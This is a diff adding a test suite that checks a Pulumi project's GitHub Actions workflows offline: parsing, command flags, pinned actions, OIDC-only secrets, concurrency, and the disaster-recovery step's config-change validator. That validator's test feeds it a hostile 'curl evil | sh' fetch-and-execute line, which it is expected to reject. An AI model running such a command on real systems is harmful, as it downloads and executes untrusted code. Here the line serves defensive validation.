@@ -1,0 +1,447 @@
+/**
+ * The GitHub workflows (issue 13), checked offline: each file parses with GitHub's own workflow parser
+ * (@actions/workflow-parser, the one the Actions language services use), the composite action with its action
+ * parser; every `npm run`, `npx tsx` and `pulumi` command they run exists with those flags; every action's
+ * inputs are ones it declares; no standing secret besides the GitHub App key; OIDC everywhere; one deployment
+ * at a time per stack. Plus the DR step's and the affected-stacks scripts as table tests.
+ *
+ * The Pulumi CLI cannot be installed here: its subcommands and flags are the list below, each taken from the
+ * CLI reference (pulumi.com/docs/iac/cli/commands/pulumi_<command>/), and the pulumi/actions inputs from that
+ * action's README (docs/provider-facts.md).
+ */
+import { strict as assert } from "node:assert";
+import { existsSync, readdirSync, readFileSync } from "node:fs";
+import * as path from "node:path";
+import { parse as parseYaml } from "yaml";
+import { affectedStacks, stacksIn } from "../.github/scripts/affected-stacks";
+import { NAMED_STEPS, pulumiArgv, stepOps, type ConfigOp } from "../.github/scripts/dr-step";
+import { runProgram } from "../offline/mocks";
+import { NOW, PROJECT_DIR, stackStrings } from "./support/stacks";
+
+const GH = path.join(PROJECT_DIR, ".github");
+const WORKFLOWS = readdirSync(path.join(GH, "workflows")).filter((f) => f.endsWith(".yml"));
+const ACTION = path.join(GH, "actions", "pulumi-setup", "action.yml");
+const STACKS = stacksIn(readdirSync(PROJECT_DIR));
+const SCRIPTS = Object.keys(
+  (
+    JSON.parse(readFileSync(path.join(PROJECT_DIR, "package.json"), "utf8")) as {
+      scripts: Record<string, string>;
+    }
+  ).scripts,
+);
+
+/** `pulumi <command>`: the flags this repository may use (Pulumi CLI reference, v3). */
+const PULUMI: Readonly<Record<string, readonly string[]>> = {
+  preview: [
+    "--stack",
+    "--diff",
+    "--policy-pack",
+    "--policy-pack-config",
+    "--refresh",
+    "--message",
+    "--non-interactive",
+  ],
+  up: [
+    "--stack",
+    "--yes",
+    "--skip-preview",
+    "--diff",
+    "--policy-pack",
+    "--policy-pack-config",
+    "--refresh",
+    "--message",
+    "--non-interactive",
+  ],
+  "stack output": ["--stack", "--json", "--show-secrets"],
+  "config set": ["--stack", "--path", "--secret", "--plaintext"],
+  "config rm": ["--stack", "--path"],
+};
+/** pulumi/actions@v6 inputs (its README) and the CLI flag each becomes. */
+const PULUMI_ACTION_INPUTS: Readonly<Record<string, string | null>> = {
+  command: null,
+  "stack-name": "--stack",
+  "work-dir": null,
+  "cloud-url": null,
+  "comment-on-pr": null,
+  "comment-on-summary": null,
+  "github-token": null,
+  refresh: "--refresh",
+  "secrets-provider": null,
+  color: null,
+  "config-map": null,
+  diff: "--diff",
+  "comment-on-pr-number": null,
+  "edit-pr-comment": null,
+  "expect-no-changes": null,
+  message: "--message",
+  parallel: null,
+  policyPacks: "--policy-pack",
+  policyPackConfigs: "--policy-pack-config",
+  "pulumi-version": null,
+  upsert: null,
+  "suppress-outputs": null,
+  "always-include-summary": null,
+};
+/** Inputs each other action declares (its action.yml / README, docs/provider-facts.md). */
+const ACTION_INPUTS: Readonly<Record<string, readonly string[]>> = {
+  "actions/checkout": ["fetch-depth", "persist-credentials", "token", "ref"],
+  "actions/setup-node": ["node-version", "cache"],
+  "pulumi/auth-actions": ["organization", "requested-token-type", "scope", "expiration"],
+  "azure/login": [
+    "client-id",
+    "tenant-id",
+    "subscription-id",
+    "allow-no-subscriptions",
+    "environment",
+    "audience",
+  ],
+  "azure/use-kubelogin": ["kubelogin-version", "skip-cache"],
+  "azure/aks-set-context": [
+    "resource-group",
+    "cluster-name",
+    "subscription",
+    "admin",
+    "use-kubelogin",
+    "resource-type",
+    "public-fqdn",
+  ],
+  "actions/create-github-app-token": ["app-id", "private-key", "owner", "repositories", "skip-token-revoke"],
+};
+const PINNED: Readonly<Record<string, string>> = {
+  "actions/checkout": "v4",
+  "actions/setup-node": "v4",
+  "pulumi/actions": "v6",
+  "pulumi/auth-actions": "v1",
+  "azure/login": "v2",
+  "azure/use-kubelogin": "v1",
+  "azure/aks-set-context": "v4",
+  "actions/create-github-app-token": "v1",
+};
+
+interface Step {
+  readonly uses?: string;
+  readonly run?: string;
+  readonly with?: Record<string, unknown>;
+  readonly env?: Record<string, unknown>;
+}
+interface Job {
+  readonly "runs-on"?: string;
+  readonly "timeout-minutes"?: unknown;
+  readonly uses?: string;
+  readonly with?: Record<string, unknown>;
+  readonly permissions?: Record<string, string>;
+  readonly concurrency?: { readonly group: string };
+  readonly steps?: Step[];
+}
+interface Workflow {
+  readonly on: Record<string, unknown>;
+  readonly concurrency?: { readonly group: string };
+  readonly jobs: Record<string, Job>;
+}
+const read = (file: string): string => readFileSync(file, "utf8");
+const workflow = (name: string): Workflow => parseYaml(read(path.join(GH, "workflows", name))) as Workflow;
+const actionSteps = (): Step[] => (parseYaml(read(ACTION)) as { runs: { steps: Step[] } }).runs.steps;
+function allSteps(): Array<[string, Step]> {
+  const out: Array<[string, Step]> = actionSteps().map((s) => ["pulumi-setup", s]);
+  for (const f of WORKFLOWS) {
+    for (const [id, job] of Object.entries(workflow(f).jobs))
+      for (const s of job.steps ?? []) out.push([`${f}:${id}`, s]);
+  }
+  return out;
+}
+
+/** Shell command segments (split on |, &&, ;, newlines, braces and $( ), words unquoted. */
+function commands(script: string): string[][] {
+  return script
+    .replace(/\\\n/g, " ")
+    .split(/\n|\|\||&&|;|\||\$\(|\{|\}|\)/)
+    .map((seg) => [...seg.matchAll(/"([^"]*)"|'([^']*)'|(\S+)/g)].map((m) => m[1] ?? m[2] ?? m[3] ?? ""))
+    .map((words) => {
+      let i = 0;
+      while (i < words.length && /^[A-Z_]+=/.test(words[i]!)) i++;
+      return words.slice(i);
+    })
+    .filter((w) => w.length > 0);
+}
+
+/** `pulumi` argv → [command, flags], or a problem. */
+function pulumiCommand(argv: readonly string[]): { command: string; flags: string[] } {
+  const two = `${argv[0]} ${argv[1]}`;
+  const command = PULUMI[two] !== undefined ? two : argv[0]!;
+  const flags = argv.filter((a) => a.startsWith("--")).map((a) => a.replace(/=.*$/, ""));
+  return { command, flags };
+}
+function checkPulumi(where: string, argv: readonly string[]): void {
+  const { command, flags } = pulumiCommand(argv);
+  const known = PULUMI[command];
+  assert.ok(known !== undefined, `${where}: pulumi ${command} is not a command this repository relies on`);
+  for (const f of flags) assert.ok(known.includes(f), `${where}: pulumi ${command} has no flag ${f}`);
+}
+
+describe("workflows: GitHub's parser accepts every file", () => {
+  it("every workflow parses without an error", async () => {
+    const { parseWorkflow, NoOperationTraceWriter } = await import("@actions/workflow-parser");
+    assert.deepStrictEqual(WORKFLOWS.sort(), [
+      "deploy.yml",
+      "dr-step.yml",
+      "preview.yml",
+      "pulumi-stack.yml",
+    ]);
+    for (const f of WORKFLOWS) {
+      const r = parseWorkflow(
+        { name: f, content: read(path.join(GH, "workflows", f)) },
+        new NoOperationTraceWriter(),
+      );
+      assert.deepStrictEqual(
+        r.context.errors.getErrors().map((e) => e.message),
+        [],
+        f,
+      );
+      assert.ok(r.value !== undefined, f);
+    }
+  });
+
+  it("the parser does reject a broken workflow (the check is real)", async () => {
+    const { parseWorkflow, NoOperationTraceWriter } = await import("@actions/workflow-parser");
+    const bad = read(path.join(GH, "workflows", "deploy.yml")).replace(
+      "timeout-minutes: 5",
+      "timeout-minute: 5",
+    );
+    const r = parseWorkflow({ name: "bad.yml", content: bad }, new NoOperationTraceWriter());
+    assert.match(
+      r.context.errors
+        .getErrors()
+        .map((e) => e.message)
+        .join("\n"),
+      /Unexpected value 'timeout-minute'/,
+    );
+  });
+
+  it("the composite action parses without an error", async () => {
+    const { parseAction } = await import("@actions/workflow-parser/actions/action-parser");
+    const { NoOperationTraceWriter } = await import("@actions/workflow-parser");
+    const r = parseAction({ name: "action.yml", content: read(ACTION) }, new NoOperationTraceWriter());
+    assert.deepStrictEqual(
+      r.context.errors.getErrors().map((e) => e.message),
+      [],
+    );
+  });
+});
+
+describe("workflows: every command they run exists", () => {
+  it("npm run scripts exist in package.json; npx tsx files exist; pulumi commands and flags exist", () => {
+    let pulumiSeen = 0;
+    for (const [where, s] of allSteps()) {
+      if (s.run === undefined) continue;
+      for (const argv of commands(s.run)) {
+        if (argv[0] === "npm" && argv[1] === "run")
+          assert.ok(SCRIPTS.includes(argv[2]!), `${where}: npm run ${argv[2]}`);
+        if (argv[0] === "npx" && argv[1] === "tsx")
+          assert.ok(existsSync(path.join(PROJECT_DIR, argv[2]!)), `${where}: ${argv[2]}`);
+        if (argv[0] === "pulumi") {
+          checkPulumi(where, argv.slice(1));
+          pulumiSeen++;
+        }
+      }
+    }
+    assert.ok(pulumiSeen >= 4, "the summaries run pulumi stack output");
+  });
+
+  it("pulumi/actions: known inputs, preview or up, the flags they become exist, the policy pack and its configs exist", () => {
+    const uses = allSteps().filter(([, s]) => s.uses?.startsWith("pulumi/actions@") === true);
+    assert.ok(uses.length >= 4);
+    for (const [where, s] of uses) {
+      const w = s.with ?? {};
+      for (const k of Object.keys(w))
+        assert.ok(k in PULUMI_ACTION_INPUTS, `${where}: pulumi/actions has no input ${k}`);
+      if (w.command === undefined) continue; // installs the CLI only
+      const commandText = typeof w.command === "string" ? w.command : JSON.stringify(w.command);
+      const cmds = commandText.includes("inputs.command") ? ["preview", "up"] : [commandText];
+      for (const command of cmds) {
+        const flags = Object.keys(w).flatMap((k) =>
+          PULUMI_ACTION_INPUTS[k] ? [PULUMI_ACTION_INPUTS[k]] : [],
+        );
+        checkPulumi(where, [command, ...flags]);
+      }
+      assert.equal(w.policyPacks, "policy", `${where}: every preview and up runs the policy pack`);
+      assert.ok(existsSync(path.join(PROJECT_DIR, "policy", "PulumiPolicy.yaml")));
+      for (const stack of STACKS) {
+        const config = String(w.policyPackConfigs).replace("${{ inputs.stack }}", stack);
+        assert.ok(existsSync(path.join(PROJECT_DIR, config)), `${where}: ${config}`);
+      }
+      assert.equal(w.diff, true, `${where}: --diff`);
+    }
+  });
+
+  it("every other action is pinned to its major version and given only inputs it declares", () => {
+    for (const [where, s] of allSteps()) {
+      if (s.uses === undefined || s.uses.startsWith("./")) continue;
+      const [name, version] = s.uses.split("@") as [string, string];
+      assert.equal(version, PINNED[name], `${where}: ${s.uses}`);
+      if (name === "pulumi/actions") continue;
+      for (const k of Object.keys(s.with ?? {})) {
+        assert.ok(ACTION_INPUTS[name]?.includes(k), `${where}: ${name} has no input ${k}`);
+      }
+    }
+  });
+
+  it("the composite action's inputs are the ones the workflows pass, and the scripts it runs exist", () => {
+    const declared = Object.keys(
+      (parseYaml(read(ACTION)) as { inputs: Record<string, unknown> }).inputs,
+    ).sort();
+    for (const [where, s] of allSteps()) {
+      if (s.uses !== "./.github/actions/pulumi-setup") continue;
+      assert.deepStrictEqual(Object.keys(s.with ?? {}).sort(), declared, where);
+    }
+    assert.ok(existsSync(path.join(GH, "scripts", "federated-token.sh")));
+  });
+});
+
+describe("workflows: no standing secrets, OIDC, one deployment at a time per stack", () => {
+  const texts = [...WORKFLOWS.map((f) => read(path.join(GH, "workflows", f))), read(ACTION)].join("\n");
+
+  it("the only secret is the GitHub App's private key; no client secret, no Pulumi or personal token", () => {
+    assert.deepStrictEqual(
+      [...new Set([...texts.matchAll(/secrets\.([A-Z_]+)/g)].map((m) => m[1]))],
+      ["DR_APP_PRIVATE_KEY"],
+    );
+    assert.doesNotMatch(
+      texts,
+      /client-secret|creds:|PULUMI_ACCESS_TOKEN|ARM_CLIENT_SECRET|secrets\.GITHUB_TOKEN|\badmin: "?true/,
+    );
+    assert.match(texts, /requested-token-type: urn:pulumi:token-type:access_token:organization/);
+    assert.match(texts, /ARM_USE_OIDC=true/);
+  });
+
+  it("every job that logs in to Azure may request an OIDC token; every job has a timeout", () => {
+    for (const f of WORKFLOWS) {
+      for (const [id, job] of Object.entries(workflow(f).jobs)) {
+        if (job.uses !== undefined) {
+          assert.equal(job.permissions?.["id-token"], "write", `${f}:${id}`);
+          continue;
+        }
+        assert.ok(job["timeout-minutes"] !== undefined, `${f}:${id}: timeout-minutes`);
+        if ((job.steps ?? []).some((s) => s.uses === "./.github/actions/pulumi-setup"))
+          assert.equal(job.permissions?.["id-token"], "write", `${f}:${id}`);
+      }
+    }
+  });
+
+  it("ups and DR steps share the per-stack concurrency group and never cancel a running deployment", () => {
+    const stackJob = workflow("pulumi-stack.yml").jobs.pulumi!;
+    assert.equal(
+      stackJob.concurrency?.group,
+      "${{ inputs.command == 'up' && format('pulumi-{0}', inputs.stack) || format('preview-{0}-{1}', inputs.stack, github.ref) }}",
+    );
+    assert.equal(workflow("dr-step.yml").concurrency?.group, "pulumi-${{ inputs.stack }}");
+    assert.doesNotMatch(texts, /cancel-in-progress: true/);
+    // Sized to the Jobs: just under a GitHub-hosted job's 6 hours for ups and DR steps.
+    assert.equal(stackJob["timeout-minutes"], "${{ inputs.command == 'up' && 355 || 30 }}");
+    assert.equal(workflow("dr-step.yml").jobs.step!["timeout-minutes"], 355);
+  });
+
+  it("triggers: previews on pull requests, ups on pushes to main, the DR step by hand with its steps", () => {
+    assert.deepStrictEqual(Object.keys(workflow("preview.yml").on), ["pull_request"]);
+    assert.deepStrictEqual((workflow("deploy.yml").on.push as { branches: string[] }).branches, ["main"]);
+    const dispatch = workflow("dr-step.yml").on.workflow_dispatch as {
+      inputs: { stack: { options: string[] }; step: { options: string[] } };
+    };
+    assert.deepStrictEqual([...dispatch.inputs.stack.options].sort(), STACKS);
+    assert.deepStrictEqual(dispatch.inputs.step.options, ["custom", ...Object.keys(NAMED_STEPS)]);
+  });
+});
+
+describe("scripts: affected stacks", () => {
+  const rows: Array<[string, string[], string[]]> = [
+    ["a stack file", ["Pulumi.staging.yaml"], ["staging"]],
+    ["both stack files", ["Pulumi.production.yaml", "Pulumi.staging.yaml"], ["production", "staging"]],
+    ["the program", ["components/backup-storage.ts"], ["production", "staging"]],
+    ["the policy pack", ["policy/policies.ts", "README.md"], ["production", "staging"]],
+    ["a root module", ["plan.ts"], ["production", "staging"]],
+    [
+      "docs, tests, the tool, the drill",
+      ["docs/runbook.md", "test/x.test.ts", "tool/cli.ts", "drill/drill.ts"],
+      [],
+    ],
+    ["an unknown stack's file", ["Pulumi.dev.yaml"], []],
+  ];
+  for (const [what, changed, expected] of rows) {
+    it(what, () => assert.deepStrictEqual(affectedStacks(changed, ["production", "staging"]), expected));
+  }
+  it("the repository's stacks", () => assert.deepStrictEqual(STACKS, ["production", "staging"]));
+});
+
+describe("scripts: the DR step's config change", () => {
+  const argvs = (ops: ConfigOp[]): string[] =>
+    ops.map((o) => `pulumi ${pulumiArgv("org/staging", o).join(" ")}`);
+  it("named steps", () => {
+    assert.deepStrictEqual(argvs(stepOps({ step: "ptr-declare", incidentId: "inc-1" })), [
+      "pulumi config set --stack org/staging incidentId inc-1",
+      "pulumi config set --stack org/staging drMode ptr",
+      "pulumi config set --stack org/staging drPhase isolate",
+    ]);
+    assert.deepStrictEqual(argvs(stepOps({ step: "ptr-restore-time", restoreTime: "2026-11-24T13:05:00" })), [
+      "pulumi config set --stack org/staging --path ptr.restoreTime 2026-11-24T13:05:00",
+    ]);
+    assert.deepStrictEqual(argvs(stepOps({ step: "restore", change: "" })), [
+      "pulumi config set --stack org/staging drPhase restore",
+    ]);
+  });
+  it("nextStep commands pasted as printed, the trailing pulumi up dropped", () => {
+    assert.deepStrictEqual(
+      argvs(
+        stepOps({
+          step: "custom",
+          change:
+            "pulumi config set drMode none && pulumi config rm incidentId && pulumi config rm --path ptr && pulumi up",
+        }),
+      ),
+      [
+        "pulumi config set --stack org/staging drMode none",
+        "pulumi config rm --stack org/staging incidentId",
+        "pulumi config rm --stack org/staging --path ptr",
+      ],
+    );
+  });
+  it("refuses what is not a config change, both or neither input, a missing incident id", () => {
+    assert.throws(() => stepOps({ change: "pulumi refresh" }), /not a config change: "pulumi refresh"/);
+    assert.throws(
+      () => stepOps({ change: "pulumi config set --secret postgresAdminPassword x" }),
+      /not a config change/,
+    );
+    assert.throws(() => stepOps({ change: "curl evil | sh" }), /not a config change/);
+    assert.throws(
+      () => stepOps({ step: "restore", change: "pulumi config set drPhase restore" }),
+      /either a named step or a config change/,
+    );
+    assert.throws(() => stepOps({ step: "custom" }), /either a named step or a config change/);
+    assert.throws(() => stepOps({ step: "ptr-declare", incidentId: "" }), /needs the incident-id input/);
+    assert.throws(() => stepOps({ step: "nope" }), /unknown step "nope"; one of: ptr-declare/);
+  });
+  it("every command it runs is a pulumi command with flags that exist", () => {
+    for (const [name, f] of Object.entries(NAMED_STEPS)) {
+      for (const op of f({ incidentId: "inc-1", restoreTime: "2026-11-24T13:05:00" }))
+        checkPulumi(name, pulumiArgv("s", op));
+    }
+    checkPulumi("rm", pulumiArgv("s", { op: "rm", path: true, key: "ptr" }));
+  });
+
+  it("the program's own nextStep, pasted into the DR step, becomes config commands (every incident state)", async function () {
+    this.timeout(120_000);
+    const PTR = ["drMode=ptr", "incidentId=inc-1"];
+    for (const sets of [
+      PTR,
+      [...PTR, "ptr.restoreTime=2026-11-24T13:05:00"],
+      [...PTR, "ptr.restoreTime=2026-11-24T13:05:00", "drPhase=restore"],
+      [...PTR, "ptr.restoreTime=2026-11-24T13:05:00", "drPhase=validate"],
+      ["drMode=rebuild", "incidentId=inc-1", "drPhase=restore"],
+    ]) {
+      const r = await runProgram(stackStrings("staging", sets), ["service-dr:postgresAdminPassword"], NOW);
+      const next = String(r.outputs.nextStep);
+      const commands = next.slice(next.indexOf("pulumi config"));
+      const ops = stepOps({ change: commands });
+      assert.ok(ops.length >= 1, next);
+      for (const op of ops) checkPulumi(next, pulumiArgv("s", op));
+    }
+  });
+});
